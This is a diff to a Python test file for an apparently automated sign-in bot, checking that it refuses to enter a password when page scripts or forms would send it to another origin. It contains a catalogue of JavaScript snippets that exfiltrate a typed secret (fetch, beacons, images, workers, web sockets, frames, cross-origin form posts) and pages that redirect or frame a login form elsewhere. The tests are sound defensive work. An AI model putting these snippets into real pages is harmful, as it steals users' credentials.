@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import threading
+from base64 import b64encode
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import TYPE_CHECKING, Any
 from urllib.parse import unquote_plus
@@ -41,6 +42,8 @@ class Site:
         self.moved: dict[str, str] = {}
         self.leaked: list[str] = []
         """What came to the other name with the password in it."""
+        self.typed: list[str] = []
+        """What any page told that was typed into it."""
         site = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -52,8 +55,12 @@ class Site:
 
             def _answer(self, body: str) -> None:
                 host = self.headers["host"].partition(":")[0]
-                if SECRET in unquote_plus(f"{self.path} {body}") and host == "localhost":
+                told = unquote_plus(f"{self.path} {body}")
+                secrets = (SECRET, b64encode(SECRET.encode()).decode())
+                if host == "localhost" and any(secret in told for secret in secrets):
                     site.leaked.append(self.path)
+                if self.path.startswith("/typed"):
+                    site.typed.append(told)
                 path = self.path.partition("?")[0]
                 if path == "/enter":
                     site.pages["/"] = SIGNED_IN
@@ -172,24 +179,96 @@ def test_a_form_that_leads_elsewhere_is_not_filled_in(
     assert site.leaked == []
 
 
-@pytest.mark.parametrize(
-    "sending",
-    [
-        "fetch('{other}/caught', {{method: 'POST', mode: 'no-cors', body: secret}})",
-        "fetch('{other}/caught?' + encodeURIComponent(secret), {{mode: 'no-cors'}})",
-        "new Image().src = '{other}/caught?' + encodeURIComponent(secret)",
-        "navigator.sendBeacon('{other}/caught', secret)",
-    ],
-)
+SENDING = {
+    "fetch by POST": "fetch(other, {method: 'POST', mode: 'no-cors', body: secret})",
+    "fetch by GET": "fetch(bearing, {mode: 'no-cors'})",
+    "fetch with a form": "const body = new FormData(); body.append('a', secret);"
+    "fetch(other, {method: 'POST', mode: 'no-cors', body})",
+    "fetch in base64": "fetch(other, {method: 'POST', mode: 'no-cors', body: btoa(secret)})",
+    "fetch in a body of bytes": "fetch(other, {method: 'POST', mode: 'no-cors',"
+    " body: new Blob([secret])})",
+    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', other); x.send(secret)",
+    "a picture": "new Image().src = bearing",
+    "a beacon": "navigator.sendBeacon(other, secret)",
+    "a script": "document.head.append(Object.assign(document.createElement('script'),"
+    " {src: bearing}))",
+    "a style sheet": "document.head.append(Object.assign(document.createElement('link'),"
+    " {rel: 'stylesheet', href: bearing}))",
+    "a prefetched page": "document.head.append(Object.assign(document.createElement('link'),"
+    " {rel: 'prefetch', href: bearing}))",
+    "a font": "document.fonts.add(new FontFace('a', `url(${bearing})`));"
+    " document.fonts.load('1px a')",
+    "server-sent events": "new EventSource(bearing)",
+    "a frame": "document.body.append(Object.assign(document.createElement('iframe'),"
+    " {src: bearing}))",
+    "a form in a frame": "document.body.insertAdjacentHTML('beforeend',"
+    " `<iframe name=f></iframe><form id=g method=post target=f action=${other}><input name=a>"
+    "</form>`); const g = document.getElementById('g'); g.a.value = secret; g.submit()",
+    "going there": "location.href = bearing",
+    "a worker": "const code = `fetch('${bearing}', {mode: 'no-cors'})`;"
+    " new Worker(URL.createObjectURL(new Blob([code])))",
+    "a shared worker": "const code = `fetch('${bearing}', {mode: 'no-cors'})`;"
+    " new SharedWorker(URL.createObjectURL(new Blob([code])))",
+    "a web socket": "new WebSocket(bearing.replace('http', 'ws'))",
+    "a window": "window.open(bearing)",
+    "a form in a window": "document.body.insertAdjacentHTML('beforeend',"
+    " `<form id=g method=post target=_blank action=${other}><input name=a></form>`);"
+    " const g = document.getElementById('g'); g.a.value = secret; g.submit()",
+    "a frame of another origin": "const f = document.createElement('iframe');"
+    " f.src = other.replace('caught', 'told');"
+    " f.onload = () => f.contentWindow.postMessage(secret, '*'); document.body.append(f)",
+}
+"""Ways in which a page of the portal itself may send what was typed to somebody else."""
+TOLD = """<!doctype html><script>onmessage = e =>
+  fetch('/caught', {method: 'POST', body: e.data})</script>"""
+
+
+@pytest.mark.parametrize("way", [*SENDING])
 def test_a_script_that_sends_it_elsewhere_is_stopped(
-    site: Site, sign_in: Callable[..., str], sending: str
+    site: Site, sign_in: Callable[..., str], way: str
 ) -> None:
-    script = "document.forms[0].onsubmit = () => { const secret = document.forms[0].secret.value; "
-    script += sending.format(other=site.other) + "; return false }"
+    script = f"const other = '{site.other}/caught'; document.forms[0].onsubmit = () => {{"
+    script += "const secret = document.forms[0].secret.value,"
+    script += f"bearing = other + '?' + encodeURIComponent(secret); {SENDING[way]}; return false }}"
     site.pages["/"] = FORM.format(action="/enter", script=script)
+    site.pages["/told"] = TOLD
     with pytest.raises(IppBotError):
         sign_in()
     assert site.leaked == []
+
+
+NOT_TYPED = {
+    "a form that leads elsewhere": FORM.format(action="{other}/caught", script=TELLS),
+    "a button that leads elsewhere": FORM.format(action="/enter", script=TELLS).replace(
+        "<button", "<button formaction={other}/caught"
+    ),
+    "a base elsewhere": "<base href={other}/>" + FORM.format(action="caught", script=TELLS),
+    "a page that moves elsewhere": "<script>location.href = '{other}/form'</script>",
+    "a page that is moved elsewhere": "<meta http-equiv=refresh content='0;url={other}/form'>",
+    "a frame of another origin": "<!doctype html><h1>Welcome</h1><iframe src='{other}/form'>"
+    "</iframe>",
+    "a frame in a frame": "<!doctype html><h1>Welcome</h1>"
+    "<iframe srcdoc=\"<iframe src='{other}/form'"
+    ' width=400 height=300></iframe>" width=500 height=400></iframe>',
+    "a frame of no origin": "<!doctype html><h1>Welcome</h1><iframe sandbox='allow-scripts'"
+    " src='/form'></iframe>",
+    "a document of a data address": '<!doctype html><h1>Welcome</h1><iframe src="data:text/html,'
+    "<form action={other}/caught>Name<input name=name>Password<input type=password name=secret>"
+    '<button>Sign in</button></form>"></iframe>',
+}
+"""Pages at which nothing is typed at all."""
+
+
+@pytest.mark.parametrize("page", [*NOT_TYPED])
+def test_nothing_is_typed_where_the_origin_is_not_named(
+    site: Site, sign_in: Callable[..., str], page: str
+) -> None:
+    site.pages["/"] = NOT_TYPED[page].replace("{other}", site.other)
+    site.pages["/form"] = FORM.format(action=f"{site.other}/caught", script=TELLS)
+    with pytest.raises(IppBotError):
+        sign_in()
+    assert site.leaked == []
+    assert site.typed == []
 
 
 def test_a_frame_of_an_origin_that_nobody_named_gets_nothing(
